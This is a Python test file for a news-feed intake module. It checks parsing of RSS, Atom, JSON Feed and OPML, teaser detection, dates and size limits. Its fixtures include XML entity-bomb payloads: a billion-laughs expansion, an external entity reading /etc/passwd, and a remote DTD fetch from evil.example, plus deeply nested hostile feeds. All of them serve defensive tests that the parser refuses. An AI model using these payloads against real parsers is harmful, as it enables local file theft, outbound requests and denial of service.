"""RSS, Atom and JSON feeds from files: whole texts are articles, teasers are named, bombs are refused."""

import time

import pytest

from counterclaim.intake.door import take
from counterclaim.intake.feeds.entries import Entry
from counterclaim.intake.found import Found, Known, Terms
from counterclaim.intake.kinds import Kind
from counterclaim.intake.limits import Limits
from counterclaim.records.article import Article, Drop

WORDS = "The harbour master said on Tuesday that two barges had been sunk by shelling and that nobody was hurt. "
WHOLE = f"<p>{WORDS * 5}</p><p>{WORDS * 4}</p>"
ADDRESS = "https://dispatch.example/feed"

RSS = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>The Harbour Dispatch</title><link>https://dispatch.example/</link>
<item><title>Two barges sunk &amp; nobody hurt</title><link>/news/barges</link><dc:creator>A. Writer</dc:creator>
<pubDate>Tue, 03 Jun 2025 00:30:00 +0300</pubDate><description>Two barges were sunk …</description>
<content:encoded><![CDATA[{WHOLE}]]></content:encoded></item>
<item><title>Talks</title><link>https://dispatch.example/news/talks</link>
<description>Talks resume … Read more</description>
</item></channel></rss>"""

ATOM = f"""<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Dispatch</title>
<entry><id>tag:1</id><title>Two barges sunk</title><link rel="alternate" href="https://dispatch.example/news/barges"/>
<link rel="enclosure" href="https://dispatch.example/a.mp3"/><updated>2025-06-03T10:00:00Z</updated>
<content type="html">{WHOLE.replace("<", "&lt;")}</content></entry></feed>"""

JSON = f"""{{"version": "https://jsonfeed.org/version/1.1", "title": "Dispatch", "items": [
{{"id": 7, "url": "https://dispatch.example/news/barges", "title": "Two barges sunk", "content_html": "{WHOLE}",
"date_published": "2025-06-03T10:00:00+03:00", "authors": [{{"name": "A. Writer"}}]}}, 12]}}"""

RDF = f"""<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
xmlns="http://purl.org/rss/1.0/" xmlns:content="http://purl.org/rss/1.0/modules/content/"
xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="x"><title>Dispatch</title></channel>
<item rdf:about="https://dispatch.example/news/barges"><title>Two barges sunk</title>
<link>https://dispatch.example/news/barges</link><dc:date>2025-06-03</dc:date>
<content:encoded><![CDATA[{WHOLE}]]></content:encoded></item></rdf:RDF>"""


def taken(feed, address=ADDRESS, want=None, **limits):
    data = feed.encode() if isinstance(feed, str) else feed
    return list(take(Found("a.xml", data, Known(url=address)), Terms(Limits(**limits), want=want)))


@pytest.mark.parametrize("feed", [RSS, ATOM, JSON, RDF], ids=["RSS 2.0", "Atom", "JSON Feed", "RSS 1.0"])
def test_an_entry_with_its_whole_text_is_an_article(feed):
    article = taken(feed)[0].item
    assert isinstance(article, Article)
    assert (article.title.split(" &")[0], article.url) == ("Two barges sunk", "https://dispatch.example/news/barges")
    assert article.text.count("two barges had been sunk") == 9
    assert str(article.published.when) == "2025-06-03"
    assert article.published.basis.startswith("feed: ")
    assert article.obtained.startswith("the text of a feed's entry, trafilatura ")


def test_the_day_is_the_one_that_the_feed_writes_whatever_it_was_in_london():
    assert taken(RSS)[0].item.published.basis == "feed: published Tue, 03 Jun 2025 00:30:00 +0300"
    assert str(taken(RSS)[0].item.published.when) == "2025-06-03"


def test_a_date_after_collection_is_not_taken_and_said():
    one = taken(RSS.replace("2025", "2999"))[0]
    assert one.item.published is None
    assert any("2999" in note for note in one.notes)


def test_a_teaser_is_named_as_one():
    drop = taken(RSS)[1].item
    assert (drop.item, drop.reason) == (
        "a.xml!https://dispatch.example/news/talks",
        "feed entry holds only a teaser",
    )
    assert "--fetch" in drop.detail


@pytest.mark.parametrize(
    ("text", "is_whole"),
    [
        (WHOLE, True),
        ("<p>Two barges were sunk.</p>", False),
        (WHOLE + "<p>Read more</p>", False),
        (WHOLE + " […]", False),
        (WHOLE + "<a href='x'>Continue reading Two barges sunk</a>", False),
        (WHOLE + "<p>The post Two barges appeared first on The Dispatch.</p>", True),
    ],
)
def test_what_is_a_whole_article(text, is_whole):
    assert (Entry(texts=(text,)).whole is not None) is is_whole


def test_where_fetching_is_allowed_pages_are_wanted_with_what_the_feed_says_of_them():
    wanted = []
    assert taken(RSS, want=wanted.append) == []
    assert [(w.url, w.feed, w.instead is not None) for w in wanted] == [
        ("https://dispatch.example/news/barges", ADDRESS, True),
        ("https://dispatch.example/news/talks", ADDRESS, False),
    ]
    assert (wanted[0].known.title, wanted[0].known.author) == ("Two barges sunk & nobody hurt", "A. Writer")
    again = []
    taken(RSS.replace("Talks resume", "Talks ended"), want=again.append)
    assert [a.mark == b.mark for a, b in zip(wanted, again, strict=True)] == [True, False]


def test_a_broken_feed_is_read_as_far_as_it_goes_and_said():
    first, *_ = taken(RSS[: RSS.index("<item><title>Talks")] + "<item><title>cut")
    assert isinstance(first.item, Article)
    assert any("not well formed" in note for note in first.notes)


@pytest.mark.parametrize(
    ("feed", "reason"),
    [
        ("<?xml version='1.0'?><rss version='2.0'><channel><title>x</title></channel></rss>", "empty feed"),
        ('{"version": "https://jsonfeed.org/version/1", "items": 7}', "damaged feed"),
        ('{"version": "https://jsonfeed.org/version/1", "items": [', "damaged feed"),
        ("<rss version='2.0'><channel><item><title>x</title></item></channel></rss>", "feed entry holds only a teaser"),
    ],
)
def test_feeds_that_hold_nothing_are_drops(feed, reason):
    [one] = taken(feed)
    assert (one.kind, one.item.reason) == (Kind.FEED, reason)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = {
    "billion laughs": f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>',
    "one that is long": f'<!DOCTYPE rss [<!ENTITY a "{"a" * 5000}">]>',
    "from a file": '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "from the web": '<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;]>',
    "half written": "<!DOCTYPE rss [<!ENTITY a ]>",
}


@pytest.mark.parametrize("name", BOMBS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entity_bombs_are_refused(name, encoding):
    body = "<rss version='2.0'><channel><title>&a;&l9;</title><item><title>&a;</title></item></channel></rss>"
    began = time.process_time()
    [one] = taken(f"<?xml version='1.0' encoding='{encoding}'?>{BOMBS[name]}{body}".encode(encoding))
    assert one.item.reason == "entity bomb"
    assert time.process_time() - began < 10


def test_entities_as_real_feeds_declare_them_are_no_bombs():
    head = '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY eacute "é">]>'
    [first, _] = taken(head + RSS.partition("?>")[2].replace("Two barges sunk", "Two&nbsp;barges sunk"))
    assert isinstance(first.item, Article)


def test_a_feed_of_ten_thousand_entries_takes_seconds():
    item = (
        "<item><title>Note {n}</title><link>https://d.example/{n}</link><description>Short {n} …</description></item>"
    )
    feed = "<rss version='2.0'><channel><title>x</title>" + "".join(item.format(n=n) for n in range(10_000))
    wanted = []
    began = time.process_time()
    assert taken(feed + "</channel></rss>", want=wanted.append) == []
    assert time.process_time() - began < 10
    assert len({w.url for w in wanted}) == 10_000


def test_a_feed_that_is_larger_than_a_page_may_be_is_refused():
    [one] = taken(RSS, page_bytes=500)
    assert (one.item.reason, "COUNTERCLAIM_MAX_PAGE_BYTES" in one.item.detail) == ("too large", True)


@pytest.mark.parametrize(
    "feed",
    [
        "<rss version='2.0'>" + "<a>" * 30_000,
        "<rss version='2.0'><channel><item><title>" + "x" * 3_000_000,
        "<feed xmlns='http://www.w3.org/2005/Atom'><entry><content type='xhtml'>" + "<div>" * 20_000,
        "<rss version='2.0'><channel>" + "<item>" * 8_000,
        '{"version": "https://jsonfeed.org/version/1", "items": ' + "[" * 100_000,
        "<rss version='2.0'><channel><item><description>" + "&lt;p" * 300_000 + "</description></item></channel></rss>",
        "<rss version='2.0'><channel><item><link>" + "http://[" * 10_000 + "</link></item></channel></rss>",
    ],
)
def test_hostile_feeds_end_soon_and_never_raise(feed):
    began = time.process_time()
    assert all(isinstance(one.item, (Drop, Article)) for one in taken(feed))
    assert time.process_time() - began < 5


def test_a_list_names_its_feeds_each_once():
    opml = """<?xml version="1.0"?><opml version="2.0"><head><title>War</title></head><body>
    <outline text="Agencies"><outline type="rss" text="A" xmlUrl="https://a.example/rss"/>
    <outline text="B" XMLURL="https://b.example/rss"/></outline>
    <outline text="A again" xmlUrl="https://a.example/rss"/><outline text="local" xmlUrl="feed.xml"/></body></opml>"""
    wanted = []
    [local] = taken(opml, want=wanted.append)
    assert [w.url for w in wanted] == ["https://a.example/rss", "https://b.example/rss"]
    assert local.item.reason == "unusable address"
    offline = [one.item for one in taken(opml)]
    assert [(d.item, d.reason) for d in offline[:2]] == [
        ("a.xml!https://a.example/rss", "not fetched"),
        ("a.xml!https://b.example/rss", "not fetched"),
    ]


@pytest.mark.parametrize(
    ("opml", "reason"),
    [
        ("<opml><body></body></opml>", "empty list"),
        (f'<?xml version="1.0"?>{BOMBS["from a file"]}<opml><body/></opml>', "entity bomb"),
        ("<opml><body>" + "<outline text='a'>" * 50_000, "empty list"),
    ],
)
def test_lists_that_name_nothing_are_drops(opml, reason):
    [one] = taken(opml)
    assert (one.kind, one.item.reason) == (Kind.OPML, reason)
